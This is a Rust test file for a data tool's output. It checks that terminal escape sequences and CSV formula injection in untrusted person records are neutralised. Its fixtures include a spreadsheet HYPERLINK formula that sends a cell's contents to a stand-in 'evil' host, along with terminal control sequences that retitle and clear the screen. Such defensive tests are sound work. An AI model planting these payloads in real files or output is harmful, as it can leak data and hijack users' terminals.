//! Output for people: untrusted text controls neither the terminal nor a spreadsheet.

use crate::support::own_lake::OwnLake;

#[test]
fn foreign_text_cannot_control_terminal_or_spreadsheet() {
    let lake = OwnLake::new("printed");
    let persons = "{\"external_id\":\"P1\",\"first_name\":\"\\u001b]0;owned\\u0007\\u009b2J\",\
                   \"last_name\":\"=HYPERLINK(\\\"http://evil/?\\\"&A1)\",\"country\":\"DE\"}\n\
                   {\"external_id\":\"P2\",\"first_name\":\"@sum\",\"last_name\":\"-1+1\"}\n";
    let persons = lake.write("persons.ndjson", persons);
    lake.json(&["ingest", "native", persons.to_str().unwrap()]);
    let said = |form: &str, arguments: &[&str]| {
        let mut command = lake.command(arguments);
        let output = command.args(["--output", form]).output().unwrap();
        let printed = [output.stdout, output.stderr].concat();
        String::from_utf8(printed).unwrap()
    };
    let query = "select first_name, last_name, -1 as n from persons order by external_id";
    let table = said("table", &["sql", query]);
    assert!(!table.contains(['\u{1b}', '\u{7}', '\u{9b}']), "{table:?}");
    assert!(table.contains("\\u{1b}]0;owned\\u{7}\\u{9b}2J"), "{table}");
    let csv = said("csv", &["sql", query]);
    let expected = "first_name,last_name,n\n\
                    \u{1b}]0;owned\u{7}\u{9b}2J,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\",-1\n\
                    '@sum,'-1+1,-1\n";
    assert_eq!(csv, expected);
    let wrong = said("table", &["sql", "select \u{1b}[31m from persons"]);
    assert!(!wrong.contains('\u{1b}'), "{wrong:?}");
    let missing = said("table", &["segment", "show", "\u{1b}[2J"]);
    assert!(!missing.contains('\u{1b}'), "{missing:?}");
}
